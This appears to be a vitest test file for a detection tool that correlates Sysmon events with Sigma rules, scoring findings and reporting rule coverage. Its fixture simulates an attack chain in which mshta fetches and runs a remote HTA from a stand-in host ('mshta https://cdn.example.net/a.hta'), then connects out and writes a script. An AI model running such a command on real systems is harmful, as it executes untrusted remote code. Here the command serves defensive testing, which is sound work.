import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readPack } from '../../cli/evidenceVerifyRead';
import { sigmaCoverage } from '../../contracts/sigmaCoverage';
import { sigmaMarks } from '../../contracts/sigmaHits';
import type { SigmaSetView } from '../../contracts/sigmaSets';
import { checkPack } from '../../evidence/checkPack';
import { PACK } from '../../evidence/packNames';
import { pool, transaction, withConnection } from '../../storage/client';
import { addSetting } from '../../storage/settings';
import { loadHostSigma } from '../../storage/sigma/hostSigma';
import { correlateHostGroup } from '../correlateHostGroup';
import { findingEvidence } from '../evidence/findingEvidence';
import { nodeDigest } from '../nodeDigest';
import { readCatalogue } from '../readCatalogue';
import { readFinding } from '../readFinding';
import { useTestDatabase } from '../testFindings';
import { importWhole, workOff } from '../testImports';
import { toLines } from '../testRecords';
import { connection, file, query, quiet, start } from '../testSysmon';
import { readHostSigma } from './readHostSigma';
import { readFindingMarks, readHostMarks } from './readMarks';
import { readSigmaCoverage } from './readSigmaCoverage';
import { changeSet } from './setsChange';
import { createSet } from './setsTake';
import { ruleIdOf, ruleText } from './testRules';

let drop: () => Promise<void>;
let spoolDir: string;

beforeEach(async () => {
  drop = await useTestDatabase();
  spoolDir = await mkdtemp(path.join(os.tmpdir(), 'sequela-spool-'));
});
afterEach(async () => {
  await drop();
  await rm(spoolDir, { recursive: true, force: true });
});

const MSHTA = ruleIdOf(1);
const FILES = ruleIdOf(2);
const LOADS = ruleIdOf(3);
const RULES = [
  ruleText({ id: MSHTA, title: 'A script host', level: 'high' }),
  ruleText({
    id: FILES,
    title: 'A script is written',
    level: 'low',
    logsource: { product: 'windows', category: 'file_event' },
    selection: "TargetFilename|endswith: '.js'",
  }),
  ruleText({
    id: LOADS,
    title: 'A library is loaded',
    level: 'high',
    logsource: { product: 'windows', category: 'image_load' },
    selection: "ImageLoaded|endswith: '\\\\amsi.dll'",
  }),
];

/** mshta runs a remote HTA, writes a script and calls out. */
function story(host: string): Buffer {
  return toLines([
    ...quiet(host, '2026-11-20T08:00', 12),
    start(
      host,
      '2026-11-20T09:00:00',
      1,
      'C:\\Windows\\System32\\mshta.exe',
      'mshta https://cdn.example.net/a.hta',
    ),
    query(host, '2026-11-20T09:00:01', 1, 'cdn.example.net', '198.51.100.7'),
    connection(host, '2026-11-20T09:00:02', 1, '198.51.100.7'),
    file(host, '2026-11-20T09:00:03', 1, 'C:\\Users\\anna\\AppData\\Local\\Temp\\run.js'),
    ...quiet(host, '2026-11-20T09:10', 12),
  ]);
}

async function enable(...texts: readonly string[]): Promise<SigmaSetView> {
  const files = texts.map((text, i) => ({ path: `${i}.yml`, text }));
  const set = await createSet({ name: 'ours', note: '', files }, 'anna');
  expect(set.refused).toEqual([]);
  return changeSet(Number(set.id), { revision: set.revision, enabled: true }, 'anna');
}

async function only(analytic: string) {
  const { rows } = await pool().query<{ id: string; host_id: number }>(
    'SELECT id, host_id FROM findings WHERE analytic = $1',
    [analytic],
  );
  expect(rows).toHaveLength(1);
  const [row] = rows;
  if (row === undefined) throw new Error('no finding');
  return { hostId: row.host_id, finding: await readFinding(row.id) };
}

const sigmaOf = ({ finding }: Awaited<ReturnType<typeof only>>) =>
  finding.reasons.filter(({ id }) => id.startsWith('sigma:'));
const marksOf = async (id: string) => sigmaMarks.parse(await readFindingMarks(id));

describe('hits on a finding', () => {
  it('raise its score once the rules are switched on, and no more once they are off', async () => {
    await importWhole(story('WS1'), 'a.json', spoolDir);
    const plain = await only('AN1397');
    expect(sigmaOf(plain)).toEqual([]);

    const set = await enable(...RULES);
    await workOff(spoolDir);
    const raised = await only('AN1397');
    expect(sigmaOf(raised).map(({ id, points }) => [id, points])).toEqual([
      [`sigma:${MSHTA}`, 8],
      [`sigma:${FILES}`, 1],
    ]);
    expect(raised.finding).toMatchObject({
      id: plain.finding.id,
      scoreBeforeBaselines: Math.min(100, plain.finding.score + 9),
    });

    await changeSet(Number(set.id), { revision: set.revision, enabled: false }, 'anna');
    await workOff(spoolDir);
    expect((await only('AN1397')).finding.reasons).toEqual(plain.finding.reasons);
  });

  it('that a baseline covers, of another run, or that nobody is told of count for nothing', async () => {
    await enable(...RULES);
    await importWhole(story('WS1'), 'a.json', spoolDir);
    const { hostId } = await only('AN1397');
    const kept = async (sql: string): Promise<number> => {
      await pool().query(sql);
      const { hits } = await withConnection((held) => loadHostSigma(held, [hostId]));
      return hits.length;
    };
    expect(await kept('SELECT 1')).toBe(2);
    expect(await kept("UPDATE sigma_hits SET silent = TRUE WHERE image LIKE '%mshta.exe' AND is_event")).toBe(
      0,
    );
    expect(await kept('UPDATE sigma_hits SET silent = FALSE, baseline_id = 7')).toBe(0);
    expect(await kept('UPDATE sigma_hits SET baseline_id = NULL, run = run + 1')).toBe(0);
    expect(await kept('UPDATE sigma_hits SET run = run - 1')).toBe(2);
    await pool().query("UPDATE sigma_set_rules SET chosen = FALSE WHERE path = '0.yml'");
    await correlateHostGroup(hostId);
    expect(sigmaOf(await only('AN1397')).map(({ id }) => id)).toEqual([`sigma:${FILES}`]);
  });

  it('are its marks, with those on its path\u2019s processes; a host\u2019s are asked by time', async () => {
    await enable(...RULES);
    await importWhole(story('WS1'), 'a.json', spoolDir);
    const { finding, hostId } = await only('AN1397');
    const { items, total } = await marksOf(finding.id);
    expect(total).toBe(2);
    expect(items.map(({ rule, time, host }) => [rule.title, time, host.name])).toEqual([
      ['A script host', '2026-11-20T09:00:00.000000Z', 'ws1'],
      ['A script is written', '2026-11-20T09:00:03.000000Z', 'ws1'],
    ]);
    const [first] = items;
    expect(first?.eventId).toBe(sigmaOf(await only('AN1397'))[0]?.eventId);
    const within = async (from: string, to: string) =>
      sigmaMarks.parse(await readHostMarks(String(hostId), { from, to }));
    expect((await within('2026-11-20T09:00:01Z', '2026-11-20T10:00:00Z')).items).toEqual(items.slice(1));
    expect(await within('2026-11-20T10:00:00Z', '2026-11-20T11:00:00Z')).toEqual({ items: [], total: 0 });
    expect((await readHostMarks('ws1', {})).total).toBe(2);
    await expect(readHostMarks('nowhere', {})).rejects.toThrow();
    await expect(readHostMarks('ws1', { from: 'noon' })).rejects.toThrow();
  });

  it('are in its evidence pack, from which the same score comes out again', async () => {
    await enable(...RULES);
    await importWhole(story('WS1'), 'a.json', spoolDir);
    const { finding } = await only('AN1397');
    const { content } = await findingEvidence(
      finding.id,
      { originals: 'false' },
      { name: 'anna', role: 'lead' },
    );
    const pieces: Uint8Array[] = [];
    for await (const piece of content) pieces.push(piece);
    const place = path.join(spoolDir, 'pack.zip');
    await writeFile(place, Buffer.concat(pieces));
    const pack = await readPack(place);
    expect(pack.files.has(PACK.sigma)).toBe(true);
    const texts = checkPack(pack, nodeDigest).map(({ ok, text }) => `${ok} ${text}`);
    expect(texts.find((text) => text.includes(`finding ${finding.id}`))).toMatch(
      new RegExp(`^true .*its id comes out again, ${finding.status}, score ${finding.score}$`),
    );
  });
});

describe('a definition of one\u2019s own with a stage by a rule', () => {
  const DEFINITION = `id: MY1
title: A script host, then what a rule hits
version: "1.0"
description: For tests.
stages:
  - { id: start, title: Host, anchor: true, on: process_start, where: { process.name: mshta.exe }, telemetry: { needs: process_start, fix: Record starts. } }
  - id: write
    title: Script
    required: true
    on: file_create
    where: { sigma.rule_id: ${FILES} }
    relation: { same_process: start }
    telemetry: { needs: file_create, fix: Record files. }
keep_partial_when: [{ stage: start }]
score:
  - { id: sum, take: sum, reasons: [{ id: R1, points: 50, text: a host, when: { stage: start } }] }
headline: [{ text: a host }]
`;

  async function stageOf() {
    const { finding } = await only('MY1');
    return { status: finding.status, stage: finding.stages.find(({ id }) => id === 'write') };
  }

  it('is blind while the rule is off, and matches what it hit once it is on', async () => {
    await transaction((held) =>
      addSetting(held, {
        ...{ subject: 'MY1', kind: 'definition', note: '', savedBy: 'anna' },
        body: { yaml: DEFINITION, enabled: true },
        effect: { gained: 0, lost: 0, changed: 0, unchanged: 0 },
      }),
    );
    await importWhole(story('WS1'), 'a.json', spoolDir);
    expect(await stageOf()).toMatchObject({
      status: 'partial',
      stage: { state: 'blind', stateReason: `needs Sigma rule ${FILES}, which is not switched on here` },
    });
    await enable(...RULES);
    await workOff(spoolDir);
    const { status, stage } = await stageOf();
    expect([status, stage?.state]).toEqual(['complete', 'matched']);
    expect(stage?.events[0]?.path).toContain('run.js');
    const { hostId } = await only('MY1');
    const { catalogue } = await readCatalogue();
    const why = async () => {
      const sigma = await withConnection((held) => readHostSigma(held, [hostId], [catalogue]));
      return sigma.undecidable?.get(FILES);
    };
    expect(await why()).toBeUndefined();
    await pool().query(`UPDATE sigma_runs SET catalogue = 'older'`);
    expect(await why()).toMatch(/^the rules were not yet run over import \d+$/);
    await pool().query(`UPDATE sigma_runs SET state = 'failed'`);
    expect(await why()).toMatch(/^the rules could not be run over import \d+$/);
  });
});

describe('which rules can be decided', () => {
  it('is nothing while none is in force', async () => {
    expect(sigmaCoverage.parse(await readSigmaCoverage())).toEqual({
      ...{ rules: 0, visible: 0, partial: 0, blind: 0, hosts: [], missing: [] },
    });
  });

  it('is told by host, with the log source that is missing and how it would come; without retired hosts', async () => {
    await enable(...RULES);
    await importWhole(story('WS1'), 'a.json', spoolDir);
    await importWhole(story('WS2'), 'b.json', spoolDir);
    const coverage = sigmaCoverage.parse(await readSigmaCoverage());
    expect(coverage).toMatchObject({ rules: 3, visible: 2, partial: 0, blind: 1 });
    expect(coverage.hosts.map(({ host, visible, blind }) => [host.name, visible, blind])).toEqual([
      ['ws1', 2, 1],
      ['ws2', 2, 1],
    ]);
    expect(coverage.hosts[0]?.sources[0]).toEqual({ title: 'Sysmon 1', records: 25 });
    expect(coverage.missing).toMatchObject([
      { kind: 'logsource', what: 'windows/image_load', rules: 1, hosts: 2 },
    ]);
    expect(coverage.missing[0]?.fix).toContain('<ImageLoad');

    await pool().query("INSERT INTO host_retirements (name, reason, by) VALUES ('ws2', 'gone', 'anna')");
    await pool().query('UPDATE hosts SET correlated_at = now()');
    const less = sigmaCoverage.parse(await readSigmaCoverage());
    expect(less.hosts.map(({ host }) => host.name)).toEqual(['ws1']);
  });
});
